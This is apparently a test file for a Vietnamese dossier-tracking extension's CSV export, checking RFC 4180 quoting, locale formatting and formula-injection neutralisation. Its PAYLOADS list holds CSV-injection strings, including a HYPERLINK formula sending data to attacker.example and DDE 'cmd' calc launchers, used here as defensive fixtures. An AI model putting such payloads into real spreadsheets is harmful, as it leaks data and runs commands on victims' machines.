import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../lib/export/csv';
import { buildExport, parseExport, serializeExport } from '../../lib/export/exportJson';
import { mergeExports } from '../../lib/export/merge';
import type { Table } from '../../lib/export/table';
import { SHEET_NAMES, workbookFromExport } from '../../lib/export/workbook';
import { periodOf } from '../../lib/time/periods';
import { dossier, dossierObs } from '../build';
import { TODAY, UNIT, exportA } from './sample';

/** What a hostile portal page can put in a dossier's code, procedure or status. */
const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?d="&A2,"Bấm vào đây")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
/** The fields of a CSV line (RFC 4180 quotes, no line breaks inside here). */
function fields(line: string): string[] {
  return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, f]) => (f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f));
}

describe('CSV', () => {
  it('quotes per RFC 4180 only where needed', () => {
    expect(csvField('Đăng ký khai sinh')).toBe('Đăng ký khai sinh');
    expect(csvField('Phòng Văn hóa, Xã hội')).toBe('"Phòng Văn hóa, Xã hội"');
    expect(csvField('bản "chính"')).toBe('"bản ""chính"""');
    expect(csvField('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
  });

  it('starts with a BOM, ends lines with CRLF and writes values as Vietnamese readers expect', () => {
    const table: Table = {
      name: 'Tổng hợp chỉ tiêu',
      columns: [
        { header: 'Chỉ tiêu', kind: 'text' },
        { header: 'Tỷ lệ', kind: 'percent' },
        { header: 'Ngày', kind: 'date' },
        { header: 'Chênh lệch', kind: 'number' },
        { header: 'Lần xem', kind: 'datetime' },
      ],
      rows: [
        ['Tỷ lệ khai thác, sử dụng lại', 2 / 3, '2026-11-02', -13.333333, Date.parse('2026-11-30T17:05:00Z')],
        ['Tỷ lệ hài lòng', 'Chưa có dữ liệu', null, null, null],
      ],
    };
    expect(toCsv(table)).toBe(
      '\uFEFFChỉ tiêu,Tỷ lệ,Ngày,Chênh lệch,Lần xem\r\n' +
        '"Tỷ lệ khai thác, sử dụng lại","66,7%",02/11/2026,"-13,33",01/12/2026 00:05\r\n' +
        'Tỷ lệ hài lòng,Chưa có dữ liệu,,,\r\n',
    );
  });

  it('neutralises text cells a spreadsheet would run as a formula, and leaves the extension\'s own numbers alone', () => {
    const table: Table = {
      name: 'Hồ sơ',
      columns: [
        { header: 'Mã hồ sơ', kind: 'text' },
        { header: 'Chênh lệch', kind: 'number' },
      ],
      rows: [...PAYLOADS.map((p) => [p, -2] as [string, number]), ['- gạch đầu dòng', null], ['Đăng ký khai sinh', -13.5]],
    };
    const lines = toCsv(table).slice(1).split('\r\n');
    const cells = lines.slice(1, -1).map(fields);
    expect(cells.map((c) => c[0])).toEqual([...PAYLOADS.map((p) => `'${p}`), "'- gạch đầu dòng", 'Đăng ký khai sinh']);
    expect(cells.map((c) => c[1])).toEqual([...PAYLOADS.map(() => '-2'), '', '-13,50']);
    // A line break inside a payload stays inside its quoted cell.
    expect(toCsv({ name: 'x', columns: [{ header: 'a', kind: 'text' }], rows: [['\r=1+1']] })).toBe('\uFEFFa\r\n"\'\r=1+1"\r\n');
  });

  it('neutralises payloads that arrive in a colleague\'s export file, through the unit-report merge', () => {
    const hostile = buildExport(
      {
        profile: { unit: UNIT },
        observations: PAYLOADS.map((p, i) =>
          dossierObs(dossier(`${p}#${i}`, { procedureName: p, status: p, receivedAt: '2026-11-02' }), { unit: UNIT, seenAt: 300 + i }),
        ),
        tasks: [],
        plans: [],
        targets: [],
      },
      new Date('2026-11-20T05:00:00Z'),
    );
    const read = parseExport(serializeExport(hostile));
    if (!read.ok) throw new Error(read.error);
    const tables = workbookFromExport(mergeExports([exportA, read.value]), periodOf('month', TODAY), TODAY);
    const sheet = tables.find((t) => t.name === SHEET_NAMES.dossiers)!;
    const [header, ...rows] = toCsv(sheet).slice(1).split('\r\n').filter(Boolean).map(fields);
    const column = (name: string) => rows.map((r) => r[header.indexOf(name)]);
    for (const name of ['Mã hồ sơ', 'Tên thủ tục', 'Trạng thái']) {
      const hostileCells = column(name).filter((c) => PAYLOADS.some((p) => c.includes(p)));
      expect(hostileCells).toHaveLength(PAYLOADS.length);
      for (const cell of hostileCells) expect(cell.startsWith("'")).toBe(true);
    }
  });
});
